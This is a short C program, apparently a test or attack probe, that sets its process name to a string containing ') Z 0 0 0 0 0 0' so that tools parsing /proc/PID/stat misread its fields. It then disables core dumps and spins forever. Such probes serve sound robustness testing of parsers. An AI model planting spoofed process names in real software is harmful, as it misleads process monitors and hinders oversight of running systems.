#include "attack.h"

// A name made to confuse whoever reads /proc/PID/stat.
int main(void) {
    prctl(PR_SET_NAME, ") Z 0 0 0 0 0 0", 0, 0, 0);
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    for (volatile unsigned long i = 0;; i++) {}
}
